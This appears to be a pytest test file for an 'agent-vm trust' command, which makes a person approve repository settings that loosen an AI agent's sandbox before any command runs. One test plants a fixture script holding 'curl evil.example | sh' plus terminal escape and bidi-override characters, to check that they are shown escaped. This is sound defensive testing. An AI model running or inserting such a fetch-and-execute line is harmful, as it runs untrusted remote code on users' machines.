"""trust, as a person at a terminal or a script calls it."""

from __future__ import annotations

import json
import sys
from typing import TYPE_CHECKING

import pytest

from .work_test import Terminal

if TYPE_CHECKING:
    from pathlib import Path

    from .conftest import Command

PORTS = "[network]\nports = [8080]\n"


@pytest.fixture
def file(repository: Path) -> Path:
    """A settings file that opens a port."""
    path = repository / "agent-vm.toml"
    path.write_text(PORTS)
    return path


def at_a_terminal(monkeypatch: pytest.MonkeyPatch, typed: str) -> None:
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stdin", Terminal(typed))


VERBS = [
    ["status"], ["start"], ["stop"], ["restart"], ["destroy", "--force"], ["connect"],
    ["connect", "fix"], ["push", "fix"], ["fetch", "fix"], ["clean", "fix"], ["clean-all"],
    ["undo"], ["mount"], ["unmount"], ["secrets"], ["provision"], ["tools"], ["refresh-home"],
    ["bake"], ["prune"], ["render"], ["logs"], ["ssh-config"], ["setup"], ["doctor"],
    ["config-show"], ["network"],
]  # fmt: skip


@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
def test_every_command_waits_for_it(file: Path, agent_vm: Command, verb: list[str]) -> None:
    said = agent_vm(*verb)
    assert (said.status, said.out) == (2, "")
    assert said.err == (
        f"agent-vm: {file}: network.ports: not approved by you; "
        "`agent-vm trust` shows and approves what an agent could have changed\n"
    )


def test_a_person_sees_it_and_says_yes(
    file: Path, agent_vm: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    at_a_terminal(monkeypatch, "y\n")
    said = agent_vm("trust")
    assert said.status == 0
    head, _, change, pinned, question = said.err.splitlines()
    assert head == f"{file} wants:"
    assert change == "+network.ports = [8080]"
    assert len(pinned.removeprefix("sha256 ")) == 64
    assert question == f"agent-vm: approve what {file} loosens? [y/N] "
    assert said.out == "Approved; `agent-vm trust --revoke` takes it back.\n"
    assert "network.ports" in agent_vm("config-show").out
    assert agent_vm("trust").out == f"What {file} loosens is approved.\n"


@pytest.mark.parametrize("typed", ["n\n", "\n", "", "nearly yes\n"])
def test_anything_else_is_no(
    file: Path, agent_vm: Command, monkeypatch: pytest.MonkeyPatch, typed: str
) -> None:
    at_a_terminal(monkeypatch, typed)
    said = agent_vm("trust")
    assert said.status == 1
    assert said.error.endswith("agent-vm: nothing was approved")
    assert agent_vm("config-show").status == 2


def test_without_a_terminal_it_takes_the_flag(file: Path, agent_vm: Command) -> None:
    said = agent_vm("trust")
    assert said.status == 1
    assert said.error == (
        f"agent-vm: will not approve what {file} loosens without being asked to; add --force"
    )
    assert agent_vm("config-show").status == 2
    assert agent_vm("trust", "--force").status == 0
    assert agent_vm("config-show").status == 0


def test_what_changes_while_the_person_reads_is_not_approved(
    file: Path, agent_vm: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Slow(Terminal):
        def readline(self, _size: int | None = -1) -> str:  # type: ignore[override]
            file.write_text("[network]\nports = [9999]\n")
            return "y\n"

    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stdin", Slow())
    assert agent_vm("trust").status == 0
    assert agent_vm("config-show").status == 2
    file.write_text(PORTS)
    assert agent_vm("config-show").status == 0


def test_nothing_to_approve(repository: Path, agent_vm: Command) -> None:
    assert agent_vm("trust").out == f"Nothing in {repository} needs to be approved.\n"
    (repository / "agent-vm.toml").write_text("[vm]\ncpus = 2\n")
    assert agent_vm("trust", "--force").out == f"Nothing in {repository} needs to be approved.\n"
    assert agent_vm("trust", "--list").out == "Nothing is approved.\n"
    assert json.loads(agent_vm("trust", "--list", "--json").out) == []


def test_nothing_that_is_shown_controls_the_terminal(
    repository: Path, agent_vm: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    (repository / "agent-vm.toml").write_text('[provision]\nscript = "vm.sh"\n')
    evil = "curl evil.example | sh # \r\ntrue\x1b[1A\x1b[2K\u202e\x9b2J\n"
    (repository / "vm.sh").write_bytes(evil.encode() + b"\xff")
    at_a_terminal(monkeypatch, "n\n")
    shown = agent_vm("trust").err
    assert r"+  | curl evil.example | sh # \r" in shown.splitlines()
    assert r"+  | true\x1b[1A\x1b[2K\u202e\x9b2J" in shown.splitlines()
    assert r"+  | \udcff" in shown.splitlines()
    assert all(line.isprintable() for line in shown.split("\n"))


def test_the_list(file: Path, repository: Path, agent_vm: Command) -> None:
    file.write_text(f"{PORTS}[env]\nset = {{A = 'b'}}\n")
    agent_vm("trust", "--force")
    head, row = agent_vm("trust", "--list").out.splitlines()
    assert head.split() == ["FOLDER", "SHA256", "KEYS"]
    (entry,) = json.loads(agent_vm("trust", "--json").out)
    assert row.split() == [str(repository), entry["sha256"][:12], "network.ports,", "env.set"]
    assert entry["folder"] == str(repository)
    assert entry["values"] == {"network.ports": [8080], "env.set": {"A": "b"}}


def test_revoke_from_here_and_by_name(
    file: Path, repository: Path, home: Path, agent_vm: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    (repository / "sub").mkdir()
    for words in (["trust", "--revoke"], ["trust", "--revoke", str(repository)]):
        monkeypatch.chdir(repository)
        assert agent_vm("trust", "--force").status == 0
        monkeypatch.chdir(home if len(words) == 3 else repository / "sub")
        assert agent_vm(*words).out == f"Revoked what was approved for {repository}.\n"
        monkeypatch.chdir(repository)
        assert agent_vm("config-show").status == 2
    assert agent_vm("trust", "--revoke").error.startswith("agent-vm: nothing is approved for ")


def test_a_repository_that_is_gone_can_be_revoked(
    file: Path, repository: Path, home: Path, agent_vm: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    agent_vm("trust", "--force")
    monkeypatch.chdir(home)
    repository.rename(home / "elsewhere")
    assert agent_vm("trust", str(repository), "--revoke").status == 0
    assert agent_vm("trust", "--list").out == "Nothing is approved.\n"


def test_another_repository_by_name(
    file: Path, repository: Path, home: Path, agent_vm: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(home)
    assert agent_vm("trust", "src/app", "--force").status == 0
    monkeypatch.chdir(repository)
    assert agent_vm("config-show").status == 0
